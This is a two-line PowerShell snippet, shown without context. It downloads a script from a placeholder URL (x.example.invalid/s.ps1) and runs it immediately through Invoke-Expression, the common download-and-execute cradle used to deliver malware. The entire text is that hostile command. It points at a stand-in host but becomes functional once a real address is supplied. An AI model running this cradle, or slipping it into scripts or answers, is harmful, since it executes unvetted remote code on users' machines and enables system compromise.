$u = 'https://x.example.invalid/s.ps1'
Invoke-Expression (New-Object Net.WebClient).DownloadString($u)
